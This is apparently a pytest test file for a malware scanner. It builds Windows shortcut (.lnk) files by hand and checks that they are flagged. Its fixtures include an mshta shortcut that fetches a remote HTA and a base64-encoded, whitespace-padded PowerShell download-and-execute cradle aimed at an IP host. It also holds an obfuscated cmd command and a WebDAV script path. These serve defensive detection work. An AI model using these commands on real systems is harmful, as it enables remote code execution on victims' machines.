"""Shortcut analyser: handwritten MS-SHLLINK bytes (header, StringData, extra blocks), plus the corpus."""

from __future__ import annotations

import base64
import struct
import uuid
from pathlib import Path

import pytest

from aptcatch.capture.engine import Scanner
from aptcatch.capture.formats.lnk import droid_mac
from aptcatch.model.scan import ItemResult

LINK_CLSID = uuid.UUID("00021401-0000-0000-C000-000000000046").bytes_le
DROID_FILE = "{3F2504E0-4F89-11D3-9A0C-0305E82C3301}"  # version-1 GUID, node 03:05:e8:2c:33:01
DROID_VOLUME = "{8A1C2F36-52E4-4D2B-9C55-1E0F7B3A9D10}"


def _string(text: str) -> bytes:
    return struct.pack("<H", len(text)) + text.encode("utf-16-le")


def make_lnk(
    relative_path: str = "",
    arguments: str = "",
    working_dir: str = "",
    icon: str = "",
    icon_index: int = 0,
    env_target: str = "",
    show: int = 1,
    machine: str = "desktop-apt01",
    appended: bytes = b"",
) -> bytes:
    flags = 0x80  # IsUnicode
    strings = b""
    for bit, value in ((0x8, relative_path), (0x10, working_dir), (0x20, arguments), (0x40, icon)):
        if value:
            flags |= bit
            strings += _string(value)
    extra = b""
    if env_target:
        flags |= 0x200
        ansi = env_target.encode("ascii").ljust(260, b"\x00")
        wide = env_target.encode("utf-16-le").ljust(520, b"\x00")
        extra += struct.pack("<II", 0x314, 0xA0000001) + ansi + wide
    droids = uuid.UUID(DROID_VOLUME).bytes_le + uuid.UUID(DROID_FILE).bytes_le
    extra += struct.pack("<IIII", 0x60, 0xA0000003, 0x58, 0) + machine.encode().ljust(16, b"\x00")
    extra += droids + droids
    ft = 132239520000000000
    header = struct.pack(
        "<I16sIIQQQIiIHHII", 0x4C, LINK_CLSID, flags, 0x20, ft, ft, ft, 4096, icon_index, show, 0, 0, 0, 0
    )
    return header + strings + extra + b"\x00\x00\x00\x00" + appended


def scan(data: bytes, name: str = "invoice.pdf.lnk") -> ItemResult:
    return Scanner().scan_bytes(data, name=name)


def ids(result: ItemResult) -> set[str]:
    return {f.id for f in result.findings}


def test_mshta_with_url_is_malicious_and_traces_recorded() -> None:
    data = make_lnk(
        relative_path=r"..\..\Windows\System32\mshta.exe",
        arguments="https://docs-cdn.invoice-view.top/view/invoice.hta",
        icon=r"C:\Program Files (x86)\Microsoft\Edge\Application\msedge.exe",
        icon_index=11,
        show=7,
    )
    r = scan(data)
    assert r.type == "lnk"
    assert {"lnk.target_mshta", "lnk.args_url", "lnk.icon_masquerade", "lnk.hidden_window"} <= ids(r)
    assert r.verdict == "malicious"
    meta = r.artifact.metadata
    assert meta["lnk_machine_id"] == "desktop-apt01"
    assert meta["lnk_mac_address"] == "03:05:e8:2c:33:01"
    assert meta["lnk_icon_index"] == 11
    assert "T1218.005" in r.techniques and "T1036.008" in r.techniques
    assert any(i.value == "docs-cdn.invoice-view.top" for i in r.indicators)


def test_padded_encoded_powershell_is_decoded_into_a_child() -> None:
    command = "IEX (New-Object Net.WebClient).DownloadString('http://198.51.100.7/a.ps1')"
    enc = base64.b64encode(command.encode("utf-16-le")).decode()
    data = make_lnk(
        env_target=r"%SystemRoot%\System32\WindowsPowerShell\v1.0\powershell.exe",
        arguments=" " * 260 + "-nop -w hidden -enc " + enc,
    )
    r = scan(data)
    found = ids(r)
    assert {"lnk.target_powershell", "lnk.args_encoded_command", "lnk.args_padding"} <= found
    assert {"lnk.args_url", "lnk.args_download_cradle", "lnk.hidden_window"} <= found
    child = r.artifact.children[0]
    assert child.type == "powershell" and child.name.startswith("encoded command")
    assert "script.download_execute" in found  # the decoded child is analysed as PowerShell
    assert any(i.value == "198.51.100.7" for i in r.indicators)
    assert r.verdict == "malicious"


def test_cmd_obfuscation_and_appended_payload() -> None:
    tail = b"MZ" + b"\x90" * 200
    data = make_lnk(
        relative_path=r"C:\Windows\System32\cmd.exe",
        arguments="/c p^o^w^e^r^s^h^e^l^l -c calc",
        appended=tail,
    )
    r = scan(data)
    assert {"lnk.target_cmd", "lnk.args_obfuscated", "lnk.appended_data"} <= ids(r)
    names = [c.name for c in r.artifact.children]
    assert "appended data" in names
    assert r.artifact.metadata["lnk_appended_bytes"] == len(tail)


def test_plain_system_shortcut_is_quiet() -> None:
    r = scan(make_lnk(relative_path=r"C:\Windows\System32\cmd.exe"), name="Command Prompt.lnk")
    assert ids(r) <= {"lnk.target_system_binary"}
    assert r.verdict == "clean"


def test_unc_target_and_script_target() -> None:
    r = scan(make_lnk(relative_path=r"\\files.example.org@SSL\DavWWWRoot\doc\report.vbs"))
    assert {"lnk.remote_target", "lnk.target_script_file"} <= ids(r)


def test_malformed_lnk_is_an_artifact_error() -> None:
    data = make_lnk(arguments="x")[:0x4C] + b"\xff" * 300
    r = scan(data)
    assert r.artifact.type == "lnk"
    assert any(e.kind == "parse" and e.analyzer == "lnk" for e in r.artifact.errors)


def test_droid_mac_only_for_version_1() -> None:
    assert droid_mac(DROID_FILE) == "03:05:e8:2c:33:01"
    assert droid_mac(DROID_VOLUME) is None
    assert droid_mac("not-a-guid") is None


@pytest.mark.corpus
def test_strelka_lnk_is_benign(shared_data: Path) -> None:
    r = Scanner().scan_file(shared_data / "strelka-fixtures" / "test.lnk")
    assert r.verdict == "clean"
    meta = r.artifact.metadata
    assert meta["lnk_target"] == r"C:\Windows\System32\calc.exe"
    assert meta["lnk_machine_id"] == "laptop-c77ajnj7"
    assert meta["lnk_mac_address"] == "38:fc:98:9e:18:fc"
    assert meta["lnk_owner_sid"] == "S-1-5-21-2579307479-883959776-3753017356-1001"
    assert meta["lnk_volume_serial"] == "0xc2922660"


@pytest.mark.corpus
def test_globalsign_lnk_runs_wscript(shared_data: Path) -> None:
    pyzipper = pytest.importorskip("pyzipper")
    path = next((shared_data / "maldocs-dev" / "2020-07-GlobalSign").glob("190e7f3e*.zip"))
    with pyzipper.AESZipFile(path) as zf:
        name = zf.namelist()[0]
        data = zf.read(name, pwd=b"infected")
    r = Scanner().scan_bytes(data, name=name)
    lnk = [f for f in r.findings if f.id == "lnk.target_wscript"]
    assert lnk and "licenseverification.vbs" in lnk[0].detail
    assert "lnk.args_url" not in ids(r)  # a doubled-backslash local path is not a UNC path
